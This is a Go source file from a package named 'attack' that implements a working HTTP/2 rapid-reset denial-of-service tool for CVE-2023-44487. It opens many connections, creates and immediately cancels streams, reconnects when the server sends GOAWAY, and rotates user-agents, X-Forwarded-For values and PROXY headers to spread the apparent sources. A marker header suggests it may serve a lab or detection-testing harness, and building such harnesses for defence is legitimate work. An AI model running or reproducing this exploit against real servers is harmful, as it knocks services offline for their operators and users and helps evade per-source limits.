package attack

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxStreamID is the largest client stream identifier (RFC 9113 §5.1.1:
// 31 bits, odd for client-initiated streams).
const maxStreamID = 1<<31 - 1

// runRapidReset is the HTTP/2 rapid-reset driver (CVE-2023-44487): over
// Connections h2c connections (prior knowledge, RFC 9113 §3.3) it writes
// HEADERS (END_STREAM) for a new stream and at once RST_STREAM(CANCEL) for
// it, paced at Rate streams/s in total (0: as fast as the connection takes
// them), with raw frames from x/net/http2's Framer. A connection the target
// ends (GOAWAY, close) is replaced by a new one. Sent counts streams opened;
// Statuses the response HEADERS that still arrived; Errors GOAWAYs, resets
// from the target and connection failures.
func runRapidReset(ctx context.Context, j *job, d time.Duration) (Result, error) {
	s := j.spec
	runCtx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	b := &budget{limit: requestBudget(s.Rate, d, s.Connections)}
	interval := paceInterval(s.Rate, s.Connections)
	results := make([]Result, s.Connections)
	var wg sync.WaitGroup
	start := time.Now()
	for w := range s.Connections {
		wg.Go(func() {
			p := &pacer{interval: interval}
			if interval > 0 {
				p.next = start.Add(time.Duration(w) * interval / time.Duration(s.Connections))
			}
			results[w] = resetWorker(runCtx, j, b, p, w)
		})
	}
	wg.Wait()
	res := Result{Sent: min(b.issued.Load(), b.limit), Errors: b.errs.Load(), Connections: b.conns.Load()}
	for _, r := range results {
		res.add(Result{Statuses: r.Statuses})
	}
	return res, nil
}

// resetWorker keeps one connection busy with reset streams until ctx ends or
// the budget is spent, reconnecting when the target ends the connection.
func resetWorker(ctx context.Context, j *job, b *budget, p *pacer, w int) Result {
	statuses := make(map[int]uint64)
	var mu sync.Mutex
	for ctx.Err() == nil && b.issued.Load() < b.limit {
		rc, err := dialH2(ctx, j, w)
		if err != nil {
			if ctx.Err() == nil {
				b.errs.Add(1)
				sleepCtx(ctx, 50*time.Millisecond) // refused: do not spin
			}
			continue
		}
		b.conns.Add(1)
		done := make(chan struct{})
		go func() {
			defer close(done)
			rc.readLoop(b, func(code int) {
				mu.Lock()
				statuses[code]++
				mu.Unlock()
			})
		}()
		rc.writeLoop(ctx, j, b, p, w)
		rc.close()
		<-done
	}
	mu.Lock()
	defer mu.Unlock()
	return Result{Statuses: statuses}
}

// resetConn is one raw HTTP/2 client connection.
type resetConn struct {
	conn net.Conn
	stop func() bool // unregisters the close-on-cancel hook
	bw   *bufio.Writer
	wmu  sync.Mutex // guards fr's writes and bw
	fr   *http2.Framer
	dead atomic.Bool // set by the reader on GOAWAY or read error
}

// dialH2 connects, writes the PROXY header if configured, the client
// preface and SETTINGS.
func dialH2(ctx context.Context, j *job, w int) (*resetConn, error) {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", j.addr)
	if err != nil {
		return nil, err
	}
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	bw := bufio.NewWriterSize(conn, 16<<10)
	if j.target.ProxyProtocol && len(j.sources) > 0 {
		port := 0
		if a, ok := conn.LocalAddr().(*net.TCPAddr); ok {
			port = a.Port
		}
		if err := writeProxyHeader(bw, conn, j.sources[w%len(j.sources)], port); err != nil {
			stop()
			conn.Close()
			return nil, err
		}
	}
	rc := &resetConn{conn: conn, stop: stop, bw: bw, fr: http2.NewFramer(bw, bufio.NewReader(conn))}
	rc.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	rc.fr.MaxHeaderListSize = 64 << 10
	_, err = bw.WriteString(http2.ClientPreface)
	if err == nil {
		err = rc.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0},
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	}
	if err == nil {
		err = bw.Flush()
	}
	if err != nil {
		rc.close()
		return nil, err
	}
	return rc, nil
}

// writeLoop opens and resets streams until ctx ends, the budget is spent,
// stream ids run out or the connection dies.
func (rc *resetConn) writeLoop(ctx context.Context, j *job, b *budget, p *pacer, w int) {
	s := j.spec
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	authority := j.target.URL.Host
	for id, i := uint32(1), 0; id <= maxStreamID && !rc.dead.Load(); id, i = id+2, i+1 {
		if !p.wait(ctx) || !b.take() {
			return
		}
		hbuf.Reset()
		path := s.Paths[i%len(s.Paths)]
		fields := []hpack.HeaderField{
			{Name: ":method", Value: s.Method},
			{Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: authority},
			{Name: ":path", Value: path},
			{Name: "user-agent", Value: userAgents[(w+i)%len(userAgents)]},
			{Name: "x-lab-class", Value: j.marker},
		}
		if n := len(j.xff); n > 0 && !j.target.ProxyProtocol {
			fields = append(fields, hpack.HeaderField{Name: "x-forwarded-for", Value: j.xff[(w+i*s.Connections)%n]})
		}
		for _, f := range fields {
			_ = enc.WriteField(f)
		}
		rc.wmu.Lock()
		_ = rc.conn.SetWriteDeadline(time.Now().Add(requestTimeout))
		err := rc.fr.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true,
		})
		if err == nil {
			err = rc.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil {
			err = rc.bw.Flush()
		}
		rc.wmu.Unlock()
		if err != nil {
			if ctx.Err() == nil && !rc.dead.Load() {
				b.errs.Add(1)
			}
			return
		}
	}
}

// readLoop reads frames until the connection fails: it acknowledges
// SETTINGS and PING, returns flow-control credit for DATA, reports response
// statuses, and counts GOAWAY and RST_STREAM from the target as errors.
func (rc *resetConn) readLoop(b *budget, status func(int)) {
	defer rc.dead.Store(true)
	for {
		f, err := rc.fr.ReadFrame()
		if err != nil {
			var se http2.StreamError
			if errors.As(err, &se) {
				continue // a bad stream does not end the connection
			}
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				rc.write(func() error { return rc.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				rc.write(func() error { return rc.fr.WritePing(true, f.Data) })
			}
		case *http2.DataFrame:
			if n := f.Length; n > 0 {
				rc.write(func() error { return rc.fr.WriteWindowUpdate(0, n) })
			}
		case *http2.MetaHeadersFrame:
			if code, err := strconv.Atoi(f.PseudoValue("status")); err == nil {
				status(code)
			}
		case *http2.RSTStreamFrame:
			b.errs.Add(1)
		case *http2.GoAwayFrame:
			b.errs.Add(1)
			return
		}
	}
}

// close closes the connection and unregisters its cancel hook.
func (rc *resetConn) close() {
	rc.stop()
	rc.conn.Close()
}

// write runs fn under the write lock and flushes; failures surface in the
// writer.
func (rc *resetConn) write(fn func() error) {
	rc.wmu.Lock()
	defer rc.wmu.Unlock()
	if fn() == nil {
		_ = rc.bw.Flush()
	}
}
